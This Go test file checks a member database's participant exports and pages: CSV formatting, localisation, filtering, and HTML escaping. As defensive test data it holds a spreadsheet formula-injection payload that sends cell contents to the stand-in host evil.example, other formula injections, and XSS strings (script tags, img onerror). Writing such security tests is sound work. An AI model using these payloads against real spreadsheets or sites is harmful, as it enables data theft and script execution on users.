package organisers_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pepalumni/memberdb/app/apptest"
	"github.com/pepalumni/memberdb/app/web"
)

// readCSV checks the BOM and returns the records of a participants CSV.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rest, ok := strings.CutPrefix(body, "\ufeff")
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %.20q", body)
	}
	r := csv.NewReader(strings.NewReader(rest))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func column(t *testing.T, recs [][]string, header string) []string {
	t.Helper()
	i := slices.Index(recs[0], header)
	if i < 0 {
		t.Fatalf("no column %q in %q", header, recs[0])
	}
	var out []string
	for _, rec := range recs[1:] {
		out = append(out, rec[i])
	}
	return out
}

func TestParticipantsCSV(t *testing.T) {
	app := apptest.Start(t)
	ev := newEvent(t, app, "Toolbox", testSchema)
	titles := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+SUM(1,2)",
		"-2+3",
		"@cmd",
		"\tTab",
		"\rCarriage",
		"Messung von $\\alpha_s$; mit Semikolon, \"Zitat\" und Umlauten äöü",
	}
	for i, title := range titles {
		data, _ := json.Marshal(map[string]any{
			"title": title, "guests": i + 1, "contribution": 0.5,
			"languages": map[string]any{"python": i%2 == 0, "other": ""},
		})
		register(t, app, ev, testRegistration{Name: fmt.Sprintf("Person %d", i), Status: "confirmed", Confirmed: at(i), Data: string(data)})
	}
	register(t, app, ev, testRegistration{Name: "=1+1", Status: "pending", Data: `{"guests": 1}`})
	c, _ := app.ClientWith(t, "get_participants")

	resp := app.Get(t, c, fmt.Sprintf("/events/%d/participants.csv?status=confirmed&status=pending", ev.ID))
	wantStatus(t, resp, http.StatusOK)
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	// Named after the event's shortlink and the day, not participants-1.csv.
	if cd := resp.Header.Get("Content-Disposition"); cd != "attachment; filename="+ev.Shortlink+"-"+time.Now().In(web.Berlin).Format("2006-01-02")+".csv" {
		t.Errorf("Content-Disposition %q", cd)
	}
	if !strings.Contains(resp.Body, "\r\n") {
		t.Error("lines do not end in CRLF, as Excel expects")
	}
	recs := readCSV(t, resp.Body)
	if len(recs) != len(titles)+2 {
		t.Fatalf("%d records, want header and %d rows", len(recs), len(titles)+1)
	}
	// The page's columns in the page's order: status right after the name.
	if want := []string{"Nr.", "Name", "Status", "E-Mail", "Gäste", "Titel der Arbeit", "Sprachen: python", "Sprachen: Weitere", "Beitrag", "Anmeldung bestätigt am", "Eingelassen"}; !slices.Equal(recs[0], want) {
		t.Errorf("header %q, want %q", recs[0], want)
	}

	wantTitles := []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"'+SUM(1,2)",
		"'-2+3",
		"'@cmd",
		"'\tTab",
		"'Carriage", // encoding/csv drops a lone CR when writing CRLF lines
		titles[6],
		"",
	}
	if got := column(t, recs, "Titel der Arbeit"); !slices.Equal(got, wantTitles) {
		t.Errorf("titles\n%q\nwant\n%q", got, wantTitles)
	}
	names := column(t, recs, "Name")
	if names[len(names)-1] != "'=1+1" {
		t.Errorf("formula in a name not neutralised: %q", names[len(names)-1])
	}
	if got := column(t, recs, "Gäste"); !slices.Equal(got, []string{"1", "2", "3", "4", "5", "6", "7", "1"}) {
		t.Errorf("guests %q", got)
	}
	// Decimals as German spreadsheets read them (the semicolons are theirs
	// too); an English download keeps the point.
	if got := column(t, recs, "Beitrag")[0]; got != "0,5" {
		t.Errorf("contribution %q, want 0,5", got)
	}
	english := readCSV(t, app.Get(t, c, fmt.Sprintf("/events/%d/participants.csv", ev.ID), "Accept-Language", "en").Body)
	if got := english[1][slices.Index(english[0], "Beitrag")]; got != "0.5" {
		t.Errorf("English contribution %q, want 0.5 (header %q)", got, english[0])
	}
	if got := column(t, recs, "Sprachen: python")[:2]; !slices.Equal(got, []string{"ja", "nein"}) {
		t.Errorf("booleans %q", got)
	}
	if got := column(t, recs, "Status"); got[0] != "bestätigt" || got[len(got)-1] != "unbestätigt" {
		t.Errorf("statuses %q", got)
	}
	if got := column(t, recs, "Anmeldung bestätigt am")[0]; got != "2024-10-01 10:00" {
		t.Errorf("confirmation time %q, want Berlin time", got)
	}

	t.Run("without a filter the confirmed, as on the page", func(t *testing.T) {
		recs := readCSV(t, app.Get(t, c, fmt.Sprintf("/events/%d/participants.csv", ev.ID)).Body)
		if got := column(t, recs, "Status"); len(got) != len(titles) || slices.ContainsFunc(got, func(s string) bool { return s != "bestätigt" }) {
			t.Errorf("statuses %q, want the %d confirmed", got, len(titles))
		}
	})

	t.Run("the filter applies to the download", func(t *testing.T) {
		recs := readCSV(t, app.Get(t, c, fmt.Sprintf("/events/%d/participants.csv?status=pending", ev.ID)).Body)
		if len(recs) != 2 || column(t, recs, "Name")[0] != "'=1+1" {
			t.Errorf("filtered CSV %q", recs)
		}
	})
}

func TestNoMarkupRunsAnywhere(t *testing.T) {
	app := apptest.Start(t)
	const (
		name  = `<script>alert("name")</script>`
		title = `<img src=x onerror=alert(1)>`
		label = `<b onmouseover="alert(2)">Fett</b><script>alert(3)</script>`
	)
	schema := `{"type": "object", "properties": {"title": {"type": "string", "label": ` + jsonString(label) + `}}}`
	ev := newEvent(t, app, `Feier <i>mit</i> "Quotes"`, schema)
	register(t, app, ev, testRegistration{Name: name, Status: "confirmed", Confirmed: at(1), Data: `{"title": ` + jsonString(title) + `}`})
	c, _ := app.ClientWith(t, "get_participants")
	base := fmt.Sprintf("/events/%d/participants", ev.ID)

	t.Run("page", func(t *testing.T) {
		resp := app.Get(t, c, base+"/")
		wantStatus(t, resp, http.StatusOK)
		wantNotContains(t, resp.Body, name, title, "onmouseover", "alert(3)", "<i>mit</i>")
		wantContains(t, resp.Body, "&lt;script&gt;alert(&#34;name&#34;)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;")
		p := parsePage(t, resp.Body)
		if got := p.texts("name"); !slices.Equal(got, []string{name}) {
			t.Errorf("name shows as %q", got)
		}
		if got := p.texts("col"); !slices.Equal(got, []string{"Fett"}) {
			t.Errorf("label shows as %q", got)
		}
	})

	t.Run("json", func(t *testing.T) {
		resp := app.Get(t, c, base+"/", "Accept", "application/json")
		wantStatus(t, resp, http.StatusOK)
		wantNotContains(t, resp.Body, "<script>", "<img")
		var got struct {
			Participants []struct {
				Data map[string]string `json:"data"`
			} `json:"participants"`
		}
		if err := json.Unmarshal([]byte(resp.Body), &got); err != nil {
			t.Fatal(err)
		}
		if got.Participants[0].Data["title"] != title {
			t.Errorf("answer in JSON %q, want it as data", got.Participants[0].Data["title"])
		}
	})

	t.Run("csv", func(t *testing.T) {
		recs := readCSV(t, app.Get(t, c, base+".csv").Body)
		if got := column(t, recs, "Fett"); !slices.Equal(got, []string{title}) {
			t.Errorf("answer in CSV %q", got)
		}
		if got := column(t, recs, "Name"); !slices.Equal(got, []string{name}) {
			t.Errorf("name in CSV %q", got)
		}
	})
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// A date answer is a day as the reader writes one, on the page and in the
// download; it was kept as 1990-05-17.
func TestDateAnswersReadAsDays(t *testing.T) {
	app := apptest.Start(t)
	ev := newEvent(t, app, "Days", `{"type": "object", "properties": {"born": {"type": "string", "format": "date", "label": "Geburtsdatum"}}}`)
	register(t, app, ev, testRegistration{Name: "Dora Day", Status: "confirmed", Confirmed: at(1), Data: `{"born": "1990-05-17"}`})
	c, _ := app.ClientWith(t, "get_participants")
	page := app.Get(t, c, fmt.Sprintf("/events/%d/participants/", ev.ID))
	wantStatus(t, page, http.StatusOK)
	if !strings.Contains(page.Body, "17.05.1990") || strings.Contains(page.Body, "1990-05-17") {
		t.Errorf("the German page does not show the day as 17.05.1990")
	}
	if en := app.Get(t, c, fmt.Sprintf("/events/%d/participants/", ev.ID), "Accept-Language", "en"); !strings.Contains(en.Body, "17 May 1990") {
		t.Errorf("the English page does not show the day as 17 May 1990")
	}
	recs := readCSV(t, app.Get(t, c, fmt.Sprintf("/events/%d/participants.csv", ev.ID)).Body)
	if got := column(t, recs, "Geburtsdatum"); !slices.Equal(got, []string{"17.05.1990"}) {
		t.Errorf("CSV days %q, want 17.05.1990", got)
	}
	// The search finds a day as the page shows it, and a decimal.
	for _, q := range []string{
		`UPDATE events SET registration_schema = '{"type": "object", "properties": {"born": {"type": "string", "format": "date", "label": "Geburtsdatum"}, "km": {"type": "number", "label": "km"}}}' WHERE id = $1`,
		`UPDATE registrations SET data = '{"born": "1990-05-17", "km": 12.5}' WHERE event_id = $1`,
	} {
		if _, err := app.Pool.Exec(t.Context(), q, ev.ID); err != nil {
			t.Fatal(err)
		}
	}
	for _, q := range []string{"17.05.1990", "17 may 1990", "1990-05-17", "12,5", "12.5"} {
		found := app.Get(t, c, fmt.Sprintf("/events/%d/participants/?q=%s", ev.ID, url.QueryEscape(q)))
		if !strings.Contains(found.Body, "Dora Day") {
			t.Errorf("searching %q does not find the day", q)
		}
	}
}
